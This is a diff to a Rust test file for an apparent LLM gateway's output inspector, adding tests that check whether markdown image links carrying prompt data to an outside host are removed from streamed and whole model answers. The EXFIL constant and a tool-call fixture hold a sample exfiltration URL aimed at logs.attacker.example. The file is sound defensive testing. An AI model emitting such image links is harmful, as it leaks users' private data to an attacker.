@@ -1,6 +1,7 @@
 use std::sync::Arc;
 
 use bytes::BytesMut;
+use halberd_guard::links::{LinkGuard, LinkPolicy};
 use halberd_guard::sensitive::{Policy, Pseudonyms};
 use halberd_protocol::Api;
 use halberd_protocol::sse::{SseDecoder, SseEvent};
@@ -8,8 +9,17 @@ use serde_json::{Value, json};
 
 use super::{OutputError, OutputInspector};
 
+/// Link checks off: the tests above the link tests are about sensitive data.
+fn no_links() -> LinkGuard {
+    LinkGuard::new(Arc::new(LinkPolicy::off()), [])
+}
+
 fn inspector() -> OutputInspector {
-    OutputInspector::new(Arc::new(Policy::redact_all()), Pseudonyms::default())
+    OutputInspector::new(
+        Arc::new(Policy::redact_all()),
+        Pseudonyms::default(),
+        no_links(),
+    )
 }
 
 /// Runs raw SSE text through the inspector; returns the client's events.
@@ -129,7 +139,7 @@ fn chat_held_text_is_released_with_the_finish_reason() {
 #[test]
 fn a_flag_only_policy_holds_nothing_back_and_still_counts_split_values() {
     let policy = Policy::uniform(halberd_guard::sensitive::Action::Flag);
-    let mut inspector = OutputInspector::new(Arc::new(policy), Pseudonyms::default());
+    let mut inspector = OutputInspector::new(Arc::new(policy), Pseudonyms::default(), no_links());
     let pieces = ["Cert", "ainly, call +44 20 ", "7946 0958", " today"];
     let mut raw = String::new();
     for piece in pieces {
@@ -345,10 +355,171 @@ fn a_response_with_too_many_text_streams_is_refused_not_buffered() {
     );
     assert!(
         run(
-            &mut super::OutputInspector::new(Arc::new(Policy::redact_all()), Pseudonyms::default()),
+            &mut super::OutputInspector::new(
+                Arc::new(Policy::redact_all()),
+                Pseudonyms::default(),
+                no_links()
+            ),
             Api::ChatCompletions,
             &raw
         )
         .is_ok()
     );
+}
+
+fn with_links(prompt: &str) -> OutputInspector {
+    OutputInspector::new(
+        Arc::new(Policy::redact_all()),
+        Pseudonyms::default(),
+        LinkGuard::new(Arc::new(LinkPolicy::default()), [prompt]),
+    )
+}
+
+const EXFIL: &str = "![s](https://logs.attacker.example/p.png?d=project%20bluebird%20launch)";
+
+/// The answer text a client assembles from the relayed events.
+fn assembled(api: Api, events: &[SseEvent]) -> String {
+    let mut text = String::new();
+    for ev in events {
+        let Some(Ok(v)) = ev.data.as_deref().map(serde_json::from_str::<Value>) else {
+            continue;
+        };
+        let piece = match api {
+            Api::ChatCompletions => v.pointer("/choices/0/delta/content"),
+            Api::Messages => v.pointer("/delta/text"),
+            _ => (v["type"] == "response.output_text.delta").then(|| &v["delta"]),
+        };
+        text += piece.and_then(Value::as_str).unwrap_or_default();
+    }
+    text
+}
+
+#[test]
+fn an_exfiltration_image_is_removed_from_each_api_s_stream_and_an_allowed_link_stays() {
+    let answer =
+        format!("Here you go. {EXFIL} See [the docs](https://docs.example.com/guide) for more.");
+    // Cut in awkward places: inside the image's URL and its alt text.
+    let pieces: Vec<&str> = vec![
+        &answer[..15],
+        &answer[15..40],
+        &answer[40..70],
+        &answer[70..],
+    ];
+    let chat: String = pieces
+        .iter()
+        .map(|p| {
+            format!(
+                "data: {}\n\n",
+                json!({"id": "c", "choices": [{"index": 0, "delta": {"content": p}, "finish_reason": null}]})
+            )
+        })
+        .collect::<String>()
+        + &format!(
+            "data: {}\n\ndata: [DONE]\n\n",
+            json!({"id": "c", "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
+        );
+    let messages: String = pieces
+        .iter()
+        .map(|p| {
+            anthropic(
+                "content_block_delta",
+                json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": p}}),
+            )
+        })
+        .collect::<String>()
+        + &anthropic("content_block_stop", json!({"type": "content_block_stop", "index": 0}));
+    let responses: String = pieces
+        .iter()
+        .map(|p| {
+            format!(
+                "event: response.output_text.delta\ndata: {}\n\n",
+                json!({"type": "response.output_text.delta", "item_id": "m", "content_index": 0, "delta": p})
+            )
+        })
+        .collect::<String>()
+        + &format!(
+            "event: response.output_text.done\ndata: {}\n\n",
+            json!({"type": "response.output_text.done", "item_id": "m", "content_index": 0, "text": answer})
+        );
+    let expected =
+        "Here you go. [image removed] See [the docs](https://docs.example.com/guide) for more.";
+    for (api, raw) in [
+        (Api::ChatCompletions, chat),
+        (Api::Messages, messages),
+        (Api::Responses, responses),
+    ] {
+        let mut inspector = with_links("Tell me about Project Bluebird");
+        let events = run(&mut inspector, api, &raw).unwrap();
+        assert_eq!(assembled(api, &events), expected, "{api:?}");
+        assert_eq!(
+            inspector.link_edits.len(),
+            if api == Api::Responses { 2 } else { 1 },
+            "{api:?}"
+        );
+        if api == Api::Responses {
+            // The done event's whole text agrees with the deltas.
+            let done: Value =
+                serde_json::from_str(events.last().unwrap().data.as_deref().unwrap()).unwrap();
+            assert_eq!(done["text"], expected);
+        }
+    }
+}
+
+#[test]
+fn whole_answers_lose_the_image_but_tool_arguments_keep_their_urls() {
+    let mut body = json!({
+        "choices": [{"index": 0, "message": {
+            "role": "assistant",
+            "content": format!("Done. {EXFIL}"),
+            "tool_calls": [{"id": "t", "type": "function", "function": {
+                "name": "fetch",
+                "arguments": json!({"url": "https://logs.attacker.example/p.png?d=project%20bluebird%20launch"}).to_string()
+            }}]
+        }}]
+    });
+    let mut inspector = with_links("Tell me about Project Bluebird");
+    inspector.whole(&mut body).unwrap();
+    assert_eq!(
+        body["choices"][0]["message"]["content"],
+        "Done. [image removed]"
+    );
+    assert!(
+        body["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
+            .as_str()
+            .unwrap()
+            .contains("logs.attacker.example")
+    );
+    assert_eq!(inspector.link_edits.len(), 1);
+    // Anthropic content blocks too.
+    let mut body = json!({"content": [{"type": "text", "text": format!("Done. {EXFIL}")}]});
+    with_links("").whole(&mut body).unwrap();
+    assert_eq!(body["content"][0]["text"], "Done. [image removed]");
+}
+
+#[test]
+fn a_blocking_link_policy_ends_the_stream() {
+    let mut inspector = OutputInspector::new(
+        Arc::new(Policy::redact_all()),
+        Pseudonyms::default(),
+        LinkGuard::new(
+            Arc::new(
+                LinkPolicy::new(
+                    &[],
+                    halberd_guard::links::Action::Block,
+                    halberd_guard::links::Action::Flag,
+                    halberd_guard::links::Action::Off,
+                )
+                .unwrap(),
+            ),
+            [""],
+        ),
+    );
+    let raw = format!(
+        "data: {}\n\n",
+        json!({"id": "c", "choices": [{"index": 0, "delta": {"content": EXFIL}, "finish_reason": "stop"}]})
+    );
+    match run(&mut inspector, Api::ChatCompletions, &raw) {
+        Err(OutputError::Link(edit)) => assert_eq!(edit.to_string(), "image:sentence"),
+        other => panic!("{other:?}"),
+    }
 }
